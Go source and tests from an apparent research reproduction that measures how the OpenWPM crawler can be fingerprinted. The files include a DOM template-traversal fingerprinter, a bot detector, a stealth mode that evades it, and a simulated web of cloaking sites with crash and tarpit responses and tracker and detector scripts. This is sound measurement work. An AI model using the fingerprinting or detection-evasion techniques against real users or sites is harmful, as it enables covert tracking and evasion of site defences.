		{jsdom.Ubuntu, jsdom.Headless, 2061, 43, false, false},
		{jsdom.Ubuntu, jsdom.Xvfb, 18, 0, false, false},
		{jsdom.Ubuntu, jsdom.Docker, 27, 0, true, true},
	}
	for _, c := range cases {
		name := c.os.String() + "/" + c.mode.String()
		base := baselineClient(c.os)
		client := plainClient(c.os, c.mode)
		r := MeasureSurface(base, client)
		if !r.WebdriverTrue {
			t.Errorf("%s: webdriver not true", name)
		}
		if !r.ScreenDimsDeviate {
			t.Errorf("%s: screen dimensions do not deviate", name)
		}
		if !r.ScreenPosDeviate {
			t.Errorf("%s: screen position does not deviate", name)
		}
		if r.WebGLDeviations != c.webgl {
			t.Errorf("%s: WebGL deviations = %d, want %d", name, r.WebGLDeviations, c.webgl)
		}
		if r.LanguagesAdded != c.langs {
			t.Errorf("%s: languages added = %d, want %d", name, r.LanguagesAdded, c.langs)
		}
		if r.FontEnumDeviates != c.fontDeviates {
			t.Errorf("%s: font enumeration deviates = %v, want %v", name, r.FontEnumDeviates, c.fontDeviates)
		}
		if r.TimezoneZero != c.timezoneZero {
			t.Errorf("%s: timezone-zero = %v, want %v", name, r.TimezoneZero, c.timezoneZero)
		}
		if len(r.AddedWindowGlobals) != 0 {
			t.Errorf("%s: uninstrumented client has globals %v", name, r.AddedWindowGlobals)
		}
	}
}

func TestOlderVersionWebGLCount(t *testing.T) {
	// Sec. 3.2: OpenWPM 0.11.0 (Firefox 78) showed 2022 WebGL deviations in
	// macOS headless mode vs 2037 on 0.17.0 (Firefox 90).
	base := jsdom.Build(jsdom.BaselineConfig(jsdom.MacOS, 78), &jsdom.NopHost{}, "https://probe.test/")
	hm := jsdom.Build(jsdom.StandardConfig(jsdom.MacOS, jsdom.Headless, 78, 0), &jsdom.NopHost{}, "https://probe.test/")
	r := MeasureSurface(base, hm)
	if r.WebGLDeviations != 2022 {
		t.Errorf("Firefox 78 headless WebGL deviations = %d, want 2022", r.WebGLDeviations)
	}
}

func TestUnbrandedHasNoEffect(t *testing.T) {
	branded := jsdom.BaselineConfig(jsdom.Ubuntu, 90)
	unbranded := branded
	unbranded.Unbranded = true
	a := jsdom.Build(branded, &jsdom.NopHost{}, "https://probe.test/")
	b := jsdom.Build(unbranded, &jsdom.NopHost{}, "https://probe.test/")
	diff := Compare(CaptureTemplate(a), CaptureTemplate(b))
	if diff.Total() != 0 {
		t.Errorf("branded vs unbranded differs: %s", diff)
	}
}

// instrumentedClient builds a vanilla-instrumented client by visiting a page.
func instrumentedClient(t *testing.T, os jsdom.OS, stealthMode bool) *jsdom.DOM {
	t.Helper()
	transport := httpsim.RoundTripperFunc(func(req *httpsim.Request) (*httpsim.Response, error) {
		return &httpsim.Response{Status: 200, Headers: map[string]string{"Content-Type": "text/html"}, Body: "<html></html>"}, nil
	})
	cfg := openwpm.CrawlConfig{
		OS: os, Mode: jsdom.Regular, Transport: transport, DwellSeconds: 1,
		JSInstrument: true,
	}
	if stealthMode {
		cfg.JSInstrument = false
		cfg.Stealth = stealth.New()
	}
	tm := openwpm.NewTaskManager(cfg)
	b := tm.NewBrowser()
	if _, err := b.Visit("https://probe.test/"); err != nil {
		t.Fatal(err)
	}
	return b.Top
}

func TestTamperedAPICounts(t *testing.T) {
	// clean client: nothing tampered
	if n := CountTamperedAPIs(plainClient(jsdom.Ubuntu, jsdom.Regular)); n != 0 {
		t.Errorf("clean client tampered = %d, want 0", n)
	}
	// vanilla instrumentation: +252 (Ubuntu) / +253 (macOS), Table 2
	if n := CountTamperedAPIs(instrumentedClient(t, jsdom.Ubuntu, false)); n != 252 {
		t.Errorf("Ubuntu vanilla tampered = %d, want 252", n)
	}
	if n := CountTamperedAPIs(instrumentedClient(t, jsdom.MacOS, false)); n != 253 {
		t.Errorf("macOS vanilla tampered = %d, want 253", n)
	}
	// stealth: zero toString-detectable overwrites
	if n := CountTamperedAPIs(instrumentedClient(t, jsdom.Ubuntu, true)); n != 0 {
		t.Errorf("stealth tampered = %d, want 0", n)
	}
}

func TestInstrumentAddsOneWindowGlobal(t *testing.T) {
	base := baselineClient(jsdom.Ubuntu)
	client := instrumentedClient(t, jsdom.Ubuntu, false)
	r := MeasureSurface(base, client)
	if len(r.AddedWindowGlobals) != 1 || r.AddedWindowGlobals[0] != "getInstrumentJS" {
		t.Errorf("added globals = %v, want [getInstrumentJS]", r.AddedWindowGlobals)
	}
}

func TestDetectorIdentifiesEveryMode(t *testing.T) {
	det := Detector{}
	modes := []struct {
		os   jsdom.OS
		mode jsdom.Mode
	}{
		{jsdom.MacOS, jsdom.Regular}, {jsdom.MacOS, jsdom.Headless},
		{jsdom.Ubuntu, jsdom.Regular}, {jsdom.Ubuntu, jsdom.Headless},
		{jsdom.Ubuntu, jsdom.Xvfb}, {jsdom.Ubuntu, jsdom.Docker},
	}
	for _, m := range modes {
		client := plainClient(m.os, m.mode)
		findings := det.Detect(client)
		if len(findings) == 0 {
			t.Errorf("%s/%s: OpenWPM client not detected", m.os, m.mode)
		}
	}
}

func TestDetectorNeverFlagsConsumerBrowsers(t *testing.T) {
	det := Detector{}
	for _, os := range []jsdom.OS{jsdom.MacOS, jsdom.Ubuntu} {
		base := baselineClient(os)
		if findings := det.Detect(base); len(findings) != 0 {
			t.Errorf("%s baseline flagged: %v", os, findings)
		}
	}
}

func TestDetectorModeSpecificFindings(t *testing.T) {
	det := Detector{}
	// headless: absence strategy fires
	findings := det.Detect(plainClient(jsdom.Ubuntu, jsdom.Headless))
	if !hasStrategy(findings, StrategyAbsence) {
		t.Errorf("headless: no absence finding in %v", findings)
	}
	// docker: virtualisation value strategy fires
	findings = det.Detect(plainClient(jsdom.Ubuntu, jsdom.Docker))
	var vmware bool
	for _, f := range findings {
		if strings.Contains(f.Detail, "VMware") {
			vmware = true
		}
	}
	if !vmware {
		t.Errorf("docker: no VMware finding in %v", findings)
	}
	// vanilla instrumentation: overwrite strategy fires
	findings = det.Detect(instrumentedClient(t, jsdom.Ubuntu, false))
	if !hasStrategy(findings, StrategyOverwrite) {
		t.Errorf("instrumented: no overwrite finding in %v", findings)
	}
	if !hasStrategy(findings, StrategyPresence) {
		t.Errorf("instrumented: no presence finding in %v", findings)
	}
}

func TestDetectorMissesStealthRegularMode(t *testing.T) {
	// Sec. 6.1: WPM_hide hides all identifiable properties in regular mode.
	det := Detector{}
	client := instrumentedClient(t, jsdom.Ubuntu, true)
	if findings := det.Detect(client); len(findings) != 0 {
		t.Errorf("stealth client detected: %v", findings)
	}
}

func hasStrategy(fs []Finding, s DetectorStrategy) bool {
	for _, f := range fs {
		if f.Strategy == s {
			return true
		}
	}
	return false
}

func TestTemplateDeterminism(t *testing.T) {
	a := CaptureTemplate(plainClient(jsdom.Ubuntu, jsdom.Regular))
	b := CaptureTemplate(plainClient(jsdom.Ubuntu, jsdom.Regular))
	if d := Compare(a, b); d.Total() != 0 {
		t.Errorf("identical configs differ: %s", d)
	}
	if len(a) < 500 {
		t.Errorf("template suspiciously small: %d paths", len(a))
	}
}
