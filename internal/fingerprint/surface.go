package fingerprint

import (
	"strings"

	"gullible/internal/jsdom"
	"gullible/internal/minjs"
)

// Probe is a named JavaScript expression evaluated in the client — the
// Jonker-et-al.-style property-list approach.
type Probe struct {
	Name string
	Expr string
}

// DefaultProbes is the probe list covering the properties Tables 2–4 report.
var DefaultProbes = []Probe{
	{"navigator.webdriver", "navigator.webdriver"},
	{"screen.width", "screen.width"},
	{"screen.height", "screen.height"},
	{"screen.availTop", "screen.availTop"},
	{"screen.availLeft", "screen.availLeft"},
	{"window.screenX", "window.screenX"},
	{"window.screenY", "window.screenY"},
	{"window.innerWidth", "window.innerWidth"},
	{"window.innerHeight", "window.innerHeight"},
	{"webgl.vendor", `(function(){ var c = document.createElement("canvas").getContext("webgl"); return c === null ? "null" : c.getParameter("VENDOR"); })()`},
	{"webgl.renderer", `(function(){ var c = document.createElement("canvas").getContext("webgl"); return c === null ? "null" : c.getParameter("RENDERER"); })()`},
	{"fonts.count", "document.fonts.size"},
	{"timezone.offset", "new Date().getTimezoneOffset()"},
	{"timezone.name", "Intl.DateTimeFormat().resolvedOptions().timeZone"},
	{"languages.count", "Object.keys(navigator.languages).length"},
	{"window.getInstrumentJS", "typeof window.getInstrumentJS"},
	{"window.jsInstruments", "typeof window.jsInstruments"},
	{"window.instrumentFingerprintingApis", "typeof window.instrumentFingerprintingApis"},
	{"getContext.toString", `document.createElement("canvas").getContext.toString()`},
	{"userAgentGetter.toString", `Object.getOwnPropertyDescriptor(Object.getPrototypeOf(navigator), "userAgent").get.toString()`},
	{"prototype.pollution.document", `Object.getPrototypeOf(document).hasOwnProperty("cookie")`},
	{"prototypeGetterThrows", `(function(){ try { Object.getOwnPropertyDescriptor(Object.getPrototypeOf(navigator), "userAgent").get.call({}); return "no-throw"; } catch (e) { return "throw"; } })()`},
}

// RunProbes evaluates the probes against a client.
func RunProbes(d *jsdom.DOM, probes []Probe) map[string]string {
	out := map[string]string{}
	for _, p := range probes {
		v, err := d.It.RunScript(p.Expr, "probe.js")
		if err != nil {
			out[p.Name] = "error"
			continue
		}
		out[p.Name] = v.ToString()
	}
	return out
}

// SurfaceReport is the per-setup row of Table 2: which identifying
// properties deviate from the same-engine baseline.
type SurfaceReport struct {
	OS   jsdom.OS
	Mode jsdom.Mode

	WebdriverTrue      bool
	ScreenDimsDeviate  bool
	ScreenPosDeviate   bool
	FontEnumDeviates   bool
	TimezoneZero       bool
	LanguagesAdded     int
	WebGLDeviations    int
	TamperedNatives    int      // toString-detectable overwrites (instrumentation)
	AddedWindowGlobals []string // e.g. getInstrumentJS

	TemplateDiff Diff
}

// MeasureSurface compares a client against a baseline (human Firefox of the
// same version on the same OS) and fills a Table 2 row.
func MeasureSurface(baseline, client *jsdom.DOM) SurfaceReport {
	r := SurfaceReport{OS: client.Cfg.OS, Mode: client.Cfg.Mode}
	bp := RunProbes(baseline, DefaultProbes)
	cp := RunProbes(client, DefaultProbes)

	r.WebdriverTrue = cp["navigator.webdriver"] == "true"
	r.ScreenDimsDeviate = cp["screen.width"] != bp["screen.width"] ||
		cp["screen.height"] != bp["screen.height"] ||
		cp["window.innerWidth"] != bp["window.innerWidth"] ||
		cp["window.innerHeight"] != bp["window.innerHeight"]
	r.ScreenPosDeviate = cp["window.screenX"] != bp["window.screenX"] ||
		cp["window.screenY"] != bp["window.screenY"]
	r.FontEnumDeviates = cp["fonts.count"] != bp["fonts.count"]
	r.TimezoneZero = cp["timezone.offset"] == "0" && cp["timezone.name"] == ""

	bt := CaptureTemplate(baseline)
	ct := CaptureTemplate(client)
	r.TemplateDiff = Compare(bt, ct)
	r.WebGLDeviations = r.TemplateDiff.SubtreeCount("webgl")
	r.LanguagesAdded = countPrefix(r.TemplateDiff.Added, "window.navigator.languages.")

	// tampered natives: function paths whose signature changed from native
	// to script (the toString strategy over the whole surface)
	for _, p := range r.TemplateDiff.Changed {
		if strings.HasPrefix(bt[p], "function:native:") && strings.HasPrefix(ct[p], "function:script:") {
			r.TamperedNatives++
		}
	}
	for _, name := range []string{"getInstrumentJS", "jsInstruments", "instrumentFingerprintingApis"} {
		if cp["window."+name] == "function" {
			r.AddedWindowGlobals = append(r.AddedWindowGlobals, name)
		}
	}
	return r
}

func countPrefix(paths []string, prefix string) int {
	n := 0
	for _, p := range paths {
		if strings.HasPrefix(p, prefix) {
			n++
		}
	}
	return n
}

// tamperScanJS scans the default fingerprinting surface from a page's point
// of view: for every API it resolves the live descriptor (walking prototype
// chains from instances, exactly as a detector script would) and tests the
// toString strategy.
const tamperScanJS = `(function () {
    var apis = window.__tamperScanAPIs;
    delete window.__tamperScanAPIs;
    var targets = {
        Navigator: { obj: navigator, onProto: false },
        Screen: { obj: screen, onProto: false },
        Document: { obj: document, onProto: false },
        HTMLCanvasElement: { obj: HTMLCanvasElement.prototype, onProto: true },
        CanvasRenderingContext2D: { obj: CanvasRenderingContext2D.prototype, onProto: true },
        WebGLRenderingContext: { obj: WebGLRenderingContext.prototype, onProto: true },
        AudioContext: { obj: AudioContext.prototype, onProto: true }
    };
    var count = 0;
    for (var i = 0; i < apis.length; i++) {
        var t = targets[apis[i].iface];
        if (t === undefined) { continue; }
        var desc;
        if (t.onProto) {
            desc = Object.getOwnPropertyDescriptor(t.obj, apis[i].name);
        } else {
            var proto = Object.getPrototypeOf(t.obj);
            while (proto !== null && proto !== undefined) {
                desc = Object.getOwnPropertyDescriptor(proto, apis[i].name);
                if (desc !== undefined) { break; }
                proto = Object.getPrototypeOf(proto);
            }
        }
        if (desc === undefined) { continue; }
        var fns = [desc.get, desc.set, desc.value];
        for (var j = 0; j < fns.length; j++) {
            if (typeof fns[j] === "function" && fns[j].toString().indexOf("[native code]") < 0) {
                count++;
                break;
            }
        }
    }
    return count;
})()`

// CountTamperedAPIs counts default-surface APIs whose live implementation is
// toString-detectably overwritten (the "+252/+253 through tampering" rows of
// Table 2).
func CountTamperedAPIs(d *jsdom.DOM) int {
	apis := d.It.NewArrayP()
	for _, a := range d.InstrumentableAPIs() {
		o := d.It.NewObjectP()
		o.Set("iface", minjs.String(a.Interface))
		o.Set("name", minjs.String(a.Name))
		apis.Elems = append(apis.Elems, minjs.ObjectValue(o))
	}
	d.Window.Set("__tamperScanAPIs", minjs.ObjectValue(apis))
	v, err := d.It.RunScript(tamperScanJS, "tamper-scan.js")
	if err != nil {
		return -1
	}
	return int(v.ToNumber())
}
