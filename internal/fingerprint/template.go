// Package fingerprint measures a client's fingerprint surface the way the
// paper does (Sec. 3): template attacks that traverse the object hierarchy
// (Schwarz et al.), probe lists of named properties (Jonker et al.), diffing
// against a same-engine baseline, and the four-strategy OpenWPM detector of
// Sec. 3.3.
package fingerprint

import (
	"fmt"
	"sort"
	"strings"

	"gullible/internal/jsdom"
	"gullible/internal/minjs"
)

// Template maps property paths to value signatures. It is the output of the
// template attack: a snapshot of everything reachable from window plus a
// probe-created canvas/WebGL context.
type Template map[string]string

// maxDepth bounds the traversal depth from each root.
const maxDepth = 3

// CaptureTemplate traverses the DOM object hierarchy and records a value
// signature for every reachable property. Getter errors (WebIDL brand
// checks) are part of the signature, as in real template attacks.
func CaptureTemplate(d *jsdom.DOM) Template {
	t := Template{}
	seen := map[*minjs.Object]bool{}
	walk(d.It, t, seen, "window", d.Window, 0)
	// probe-created contexts: WebGL parameters are only reachable through a
	// context instance, which the attack creates explicitly.
	if ctx := d.WebGL(); ctx != nil {
		walk(d.It, t, seen, "webgl", ctx, 0)
	} else {
		t["webgl"] = "null"
	}
	walk(d.It, t, seen, "canvas2d", d.Canvas2D(), 0)
	return t
}

// chainKeys enumerates own + inherited property names (like traversing with
// getOwnPropertyNames along the prototype chain), deduplicated.
func chainKeys(o *minjs.Object) []string {
	seen := map[string]bool{}
	var out []string
	for cur := o; cur != nil; cur = cur.Proto {
		for _, k := range cur.OwnKeys(false) {
			if !seen[k] {
				seen[k] = true
				out = append(out, k)
			}
		}
	}
	return out
}

func walk(it *minjs.Interp, t Template, seen map[*minjs.Object]bool, path string, o *minjs.Object, depth int) {
	if o == nil || seen[o] {
		return
	}
	seen[o] = true
	for _, key := range chainKeys(o) {
		sub := path + "." + key
		v, err := it.GetMember(minjs.ObjectValue(o), key)
		if err != nil {
			if thr, ok := err.(*minjs.Throw); ok {
				name, _ := it.GetMember(thr.Value, "name")
				t[sub] = "throw:" + name.ToString()
				continue
			}
			t[sub] = "throw"
			continue
		}
		t[sub] = Signature(v)
		if v.IsObject() && depth < maxDepth && !v.IsFunction() {
			walk(it, t, seen, sub, v.Obj, depth+1)
		}
		if v.IsFunction() && depth < maxDepth {
			// descend into .prototype of constructors (interface surfaces)
			if pv, perr := it.GetMember(v, "prototype"); perr == nil && pv.IsObject() {
				walk(it, t, seen, sub+".prototype", pv.Obj, depth+1)
			}
		}
	}
}

// Signature renders a value for template comparison. Function signatures
// include the toString text, so tampered natives show up as changes.
func Signature(v minjs.Value) string {
	switch v.Kind {
	case minjs.KindObject:
		o := v.Obj
		if v.IsFunction() {
			src := o.FunctionSource()
			if minjs.IsNativeSource(src) {
				return "function:native:" + o.NativeFnName()
			}
			if len(src) > 60 {
				src = src[:60]
			}
			return "function:script:" + src
		}
		return "object:" + o.Class
	case minjs.KindString:
		return "string:" + v.Str
	case minjs.KindNumber:
		return "number:" + v.ToString()
	case minjs.KindBool:
		return "boolean:" + v.ToString()
	case minjs.KindNull:
		return "null"
	default:
		return "undefined"
	}
}

// Diff compares a baseline template with a target template.
type Diff struct {
	Missing []string // in baseline, absent in target
	Added   []string // in target, absent in baseline
	Changed []string // present in both with different signatures
}

// Total is the number of deviating properties.
func (d Diff) Total() int { return len(d.Missing) + len(d.Added) + len(d.Changed) }

// Compare diffs two templates.
func Compare(baseline, target Template) Diff {
	var d Diff
	for path, base := range baseline {
		tv, ok := target[path]
		if !ok {
			d.Missing = append(d.Missing, path)
			continue
		}
		if tv != base {
			d.Changed = append(d.Changed, path)
		}
	}
	for path := range target {
		if _, ok := baseline[path]; !ok {
			d.Added = append(d.Added, path)
		}
	}
	sort.Strings(d.Missing)
	sort.Strings(d.Added)
	sort.Strings(d.Changed)
	return d
}

// SubtreeCount counts deviations under a path prefix.
func (d Diff) SubtreeCount(prefix string) int {
	n := 0
	for _, lists := range [][]string{d.Missing, d.Added, d.Changed} {
		for _, p := range lists {
			if p == prefix || strings.HasPrefix(p, prefix+".") {
				n++
			}
		}
	}
	return n
}

// String summarises a diff.
func (d Diff) String() string {
	return fmt.Sprintf("missing=%d added=%d changed=%d", len(d.Missing), len(d.Added), len(d.Changed))
}
