package fingerprint

import (
	"fmt"

	"gullible/internal/jsdom"
)

// DetectorStrategy names one of the four test strategies of Sec. 3.3.
type DetectorStrategy int

// The four strategies.
const (
	StrategyPresence  DetectorStrategy = iota + 1 // a DOM property exists
	StrategyAbsence                               // a DOM property is missing
	StrategyOverwrite                             // a native function was overwritten
	StrategyValue                                 // a DOM property has an expected value
)

func (s DetectorStrategy) String() string {
	switch s {
	case StrategyPresence:
		return "presence"
	case StrategyAbsence:
		return "absence"
	case StrategyOverwrite:
		return "overwritten-native"
	default:
		return "expected-value"
	}
}

// Finding is one positive detector test.
type Finding struct {
	Strategy DetectorStrategy
	Property string
	Detail   string
}

func (f Finding) String() string {
	return fmt.Sprintf("[%s] %s %s", f.Strategy, f.Property, f.Detail)
}

// Detector implements the paper's validation detector: it tests the entire
// measured fingerprint surface with the four strategies to identify OpenWPM
// clients among arbitrary web clients.
type Detector struct{}

// Detect runs all strategies against a client; any finding marks the client
// as an OpenWPM bot.
func (Detector) Detect(d *jsdom.DOM) []Finding {
	var out []Finding
	probe := func(expr string) string {
		v, err := d.It.RunScript(expr, "detector.js")
		if err != nil {
			return "error"
		}
		return v.ToString()
	}

	// Strategy 1: presence of OpenWPM-only DOM properties.
	for _, name := range []string{"getInstrumentJS", "jsInstruments", "instrumentFingerprintingApis"} {
		if probe("typeof window."+name) == "function" {
			out = append(out, Finding{StrategyPresence, "window." + name, "present"})
		}
	}
	// Strategy 1b: prototype pollution from the instrumentation.
	if probe(`Object.getPrototypeOf(document).hasOwnProperty("cookie")`) == "true" {
		out = append(out, Finding{StrategyPresence, "HTMLDocument.prototype.cookie", "polluted prototype"})
	}

	// Strategy 2: absence of properties regular browsers have.
	if probe(`document.createElement("canvas").getContext("webgl") === null`) == "true" {
		out = append(out, Finding{StrategyAbsence, "WebGL", "no implementation (headless)"})
	}

	// Strategy 3: overwritten native functions (Listing 1).
	if probe(`document.createElement("canvas").getContext.toString().indexOf("[native code]") < 0`) == "true" {
		out = append(out, Finding{StrategyOverwrite, "HTMLCanvasElement.getContext", "non-native toString"})
	}
	if probe(`Object.getOwnPropertyDescriptor(Object.getPrototypeOf(navigator), "userAgent").get.toString().indexOf("[native code]") < 0`) == "true" {
		out = append(out, Finding{StrategyOverwrite, "Navigator.userAgent getter", "non-native toString"})
	}
	// Strategy 3b: prototype-level getter no longer throws.
	if probe(`(function(){ try { Object.getOwnPropertyDescriptor(Object.getPrototypeOf(navigator), "userAgent").get.call({}); return "no-throw"; } catch (e) { return "throw"; } })()`) == "no-throw" {
		out = append(out, Finding{StrategyOverwrite, "Navigator.userAgent getter", "brand check gone"})
	}
	// Strategy 3c: stack traces expose instrumentation frames.
	if probe(`(function(){ var s = ""; try { new AudioContext().decodeAudioData(); } catch (e) { s = e.stack } return s.indexOf("instrument") >= 0 ? "leak" : "clean"; })()`) == "leak" {
		out = append(out, Finding{StrategyOverwrite, "stack trace", "instrumentation frames visible"})
	}

	// Strategy 4: expected values of the automation stack.
	if probe("navigator.webdriver") == "true" {
		out = append(out, Finding{StrategyValue, "navigator.webdriver", "true"})
	}
	// OpenWPM's fixed window geometry (Table 3): 1366×683 content area.
	if probe("window.innerWidth") == "1366" && probe("window.innerHeight") == "683" {
		out = append(out, Finding{StrategyValue, "window dimensions", "OpenWPM standard 1366x683"})
	}
	// Display-less modes: availTop of zero with a desktop user agent.
	if probe("screen.availTop") == "0" && probe("screen.availLeft") == "0" && probe("window.screenX") == "0" && probe("window.screenY") == "0" {
		out = append(out, Finding{StrategyValue, "screen.availTop/availLeft", "0 (display-less)"})
	}
	// Virtualisation traces (Table 4).
	vendor := probe(`(function(){ var c = document.createElement("canvas").getContext("webgl"); return c === null ? "" : c.getParameter("VENDOR"); })()`)
	if vendor == "VMware, Inc." {
		out = append(out, Finding{StrategyValue, "WebGL vendor", "VMware, Inc. (virtualisation)"})
	}
	// Docker's single-font environment.
	if probe("document.fonts.size") == "1" {
		out = append(out, Finding{StrategyValue, "font enumeration", "single font (container)"})
	}
	return out
}

// IsOpenWPM reports whether the client is identified as an OpenWPM bot.
func (det Detector) IsOpenWPM(d *jsdom.DOM) bool { return len(det.Detect(d)) > 0 }
