package websim

import (
	"errors"
	"testing"

	"gullible/internal/faults"
	"gullible/internal/httpsim"
)

// findAttackSite scans ranks for a cloaking site with the given availability
// attack.
func findAttackSite(t *testing.T, w *World, kind AvailabilityAttack) *Site {
	t.Helper()
	for rank := 1; rank <= w.Opts.NumSites; rank++ {
		if s := w.Site(rank); s.Cloaks && s.Availability == kind {
			return s
		}
	}
	t.Fatalf("no cloaking site with availability attack %d in %d ranks", kind, w.Opts.NumSites)
	return nil
}

// flagClient raises the client's detection level for the site past any cloak
// threshold, the way a first-party bot manager would.
func flagClient(w *World, clientID string, s *Site) {
	top := "https://www." + s.Domain + "/"
	for i := 0; i < 3; i++ {
		w.RoundTrip(&httpsim.Request{
			Method: "POST", URL: top + "__botflag", TopURL: top,
			Type: httpsim.TypeXHR, ClientID: clientID, Body: "sig",
		})
		// the next main-frame load folds the in-visit flag into the
		// persistent count
		w.RoundTrip(&httpsim.Request{
			Method: "GET", URL: top, TopURL: top,
			Type: httpsim.TypeMainFrame, ClientID: clientID,
		})
	}
}

func TestAvailabilityCrashAttackOnFlaggedClient(t *testing.T) {
	w := New(Options{Seed: 42, NumSites: 500, AvailabilityAttacks: true})
	s := findAttackSite(t, w, AttackCrash)
	top := "https://www." + s.Domain + "/"
	appJS := &httpsim.Request{Method: "GET", URL: top + "app.js", TopURL: top, Type: httpsim.TypeScript, ClientID: "bot"}

	// unflagged clients are served normally
	if resp, err := w.RoundTrip(appJS); err != nil || resp.Status != 200 {
		t.Fatalf("unflagged client: %v %v", resp, err)
	}

	flagClient(w, "bot", s)
	_, err := w.RoundTrip(appJS)
	var fe *faults.FaultError
	if !errors.As(err, &fe) || fe.Kind != faults.KindCrash {
		t.Fatalf("flagged client should hit a crash attack, got %v", err)
	}
}

func TestAvailabilityTarpitAttackOnFlaggedClient(t *testing.T) {
	w := New(Options{Seed: 42, NumSites: 500, AvailabilityAttacks: true})
	s := findAttackSite(t, w, AttackTarpit)
	top := "https://www." + s.Domain + "/"
	front := &httpsim.Request{Method: "GET", URL: top, TopURL: top, Type: httpsim.TypeMainFrame, ClientID: "bot"}

	if resp, err := w.RoundTrip(front); err != nil || resp.DelaySeconds != 0 {
		t.Fatalf("unflagged client tarpitted: %v %v", resp, err)
	}

	flagClient(w, "bot", s)
	resp, err := w.RoundTrip(front)
	if err != nil {
		t.Fatal(err)
	}
	if resp.DelaySeconds < TarpitAttackSeconds {
		t.Fatalf("DelaySeconds = %v, want ≥ %v", resp.DelaySeconds, TarpitAttackSeconds)
	}
}

func TestAvailabilityAttacksOffByDefault(t *testing.T) {
	w := New(Options{Seed: 42, NumSites: 500})
	s := findAttackSite(t, w, AttackCrash)
	top := "https://www." + s.Domain + "/"
	flagClient(w, "bot", s)
	resp, err := w.RoundTrip(&httpsim.Request{Method: "GET", URL: top + "app.js", TopURL: top, Type: httpsim.TypeScript, ClientID: "bot"})
	if err != nil || resp.Status != 200 {
		t.Fatalf("attacks must stay off unless opted in: %v %v", resp, err)
	}
}
