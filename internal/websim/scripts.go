package websim

import (
	"fmt"
	"strings"
)

// Detector script templates. Each reports findings to its host's /flag
// endpoint; the server then cloaks the flagged client (Sec. 4.3.2).

// plainDetectorJS is the garden-variety Selenium detector: found by both
// static and dynamic analysis.
func plainDetectorJS(flagURL string) string {
	return fmt.Sprintf(`(function () {
    var signals = [];
    if (navigator.webdriver === true) { signals.push("webdriver"); }
    if (window.innerWidth === 1366 && window.innerHeight === 683) { signals.push("geometry"); }
    var gc = document.createElement("canvas").getContext;
    if (gc.toString().indexOf("[native code]") < 0) { signals.push("tostring"); }
    if (signals.length > 0) {
        navigator.sendBeacon("%s", signals.join(","));
    }
}());`, flagURL)
}

// hoverDetectorJS registers its probe behind a mouseover listener: static
// analysis sees the pattern, dynamic analysis never observes execution.
func hoverDetectorJS(flagURL string) string {
	return fmt.Sprintf(`(function () {
    document.addEventListener("mouseover", function (e) {
        if (navigator.webdriver === true) {
            navigator.sendBeacon("%s", "webdriver-on-hover");
        }
    });
}());`, flagURL)
}

// concatDetectorJS assembles the property name at runtime: dynamic analysis
// records the access, static pattern matching finds nothing.
func concatDetectorJS(flagURL string) string {
	return fmt.Sprintf(`(function () {
    var p = "web" + "dri" + "ver";
    var n = window["navi" + "gator"];
    if (n[p] === true) {
        navigator.sendBeacon("%s", "wd");
    }
}());`, flagURL)
}

// openwpmDetectorJS additionally probes an OpenWPM marker property
// (Table 6). Obfuscated variants build the marker name at runtime.
func openwpmDetectorJS(flagURL, marker string, obfuscated bool) string {
	markerExpr := fmt.Sprintf("window.%s", marker)
	wdExpr := "navigator.webdriver === true"
	if obfuscated {
		half := len(marker) / 2
		markerExpr = fmt.Sprintf(`window[%q + %q]`, marker[:half], marker[half:])
		wdExpr = `window["navi" + "gator"]["web" + "driver"] === true`
	}
	return fmt.Sprintf(`(function () {
    var signals = [];
    if (%s) { signals.push("wd"); }
    if (typeof %s !== "undefined") { signals.push("openwpm"); }
    if (signals.length > 0) {
        navigator.sendBeacon("%s", signals.join(","));
    }
}());`, wdExpr, markerExpr, flagURL)
}

// fingerprinterJS iterates navigator and window wholesale — it touches the
// webdriver property and every honey property, landing in the dynamic
// method's 'inconclusive' bucket (Sec. 4.1.3).
func fingerprinterJS(collectURL string) string {
	return fmt.Sprintf(`(function () {
    var out = [];
    for (var k in navigator) { out.push(k + "=" + navigator[k]); }
    for (var k2 in window) {
        if (out.length > 400) { break; }
        out.push(k2 + "=" + (typeof window[k2]));
    }
    var img = new Image();
    img.src = "%s?n=" + out.length;
}());`, collectURL)
}

// viewabilityJS is an ad-viewability measurement tag: it creates a probe
// iframe and reads its window IMMEDIATELY at creation — the access pattern
// vanilla OpenWPM cannot observe (Sec. 5.4.1) — plus delayed reads that any
// instrumentation catches. The mix drives the per-API coverage of Fig. 6.
func viewabilityJS(host string) string {
	return fmt.Sprintf(`(function () {
    var f = document.createElement("iframe");
    document.body.appendChild(f);
    var cw = f.contentWindow;
    if (cw !== null) {
        // immediate reads: unobserved by deferred frame instrumentation
        var geo = [cw.screen.availLeft, cw.screen.availLeft, cw.screen.availTop, cw.navigator.userAgent];
        setTimeout(function () {
            // delayed reads: observed by everyone
            var late = [cw.screen.top, cw.screen.top, cw.screen.top,
                cw.screen.availLeft, cw.screen.availLeft, cw.screen.availLeft,
                cw.screen.width];
            var px = new Image();
            px.src = "https://%s/pixel.gif?v=" + late.length + geo.length;
        }, 50);
    }
}());`, host)
}

// benignWebdriverJS mentions "webdriver" without probing it — the naive
// static pattern's false positive (Appendix B).
const benignWebdriverJS = `(function () {
    var docs = {
        seleniumDocs: "https://selenium.dev/documentation/webdriver/",
        note: "our QA team uses a webdriver-based smoke test"
    };
    window.__docsConfig = docs;
}());`

// trackerTagJS is a third-party tracking tag: pixels, a cookie-sync request
// and — when the server offers sync partners, i.e. the client is not
// cloaked — a follow-up audience beacon.
func trackerTagJS(host string) string {
	return fmt.Sprintf(`(function () {
    var uid = localStorage.getItem("_%s_uid");
    if (uid === null) {
        uid = "u" + Math.floor(Math.random() * 1000000000);
        localStorage.setItem("_%s_uid", uid);
    }
    var px = new Image();
    px.src = "https://%s/pixel.gif?uid=" + uid;
    fetch("https://%s/sync?uid=" + uid)
        .then(function (r) { return r.text(); })
        .then(function (body) {
            if (body.length > 4) {
                navigator.sendBeacon("https://%s/audience", body);
            }
        });
}());`, sanitizeIdent(host), sanitizeIdent(host), host, host, host)
}

// analyticsJS is a first-party-ish analytics snippet with a beacon.
func analyticsJS(domain string) string {
	return fmt.Sprintf(`(function () {
    var perf = {
        w: window.innerWidth, h: window.innerHeight,
        lang: navigator.language, tz: new Date().getTimezoneOffset()
    };
    navigator.sendBeacon("https://www.%s/beacon?m=pageview", JSON.stringify(perf));
}());`, domain)
}

// appJS is the site's own application script.
func appJS(domain string) string {
	return fmt.Sprintf(`(function () {
    var state = { domain: %q, items: [] };
    function render(n) {
        for (var i = 0; i < n; i++) { state.items.push("item-" + i); }
        return state.items.length;
    }
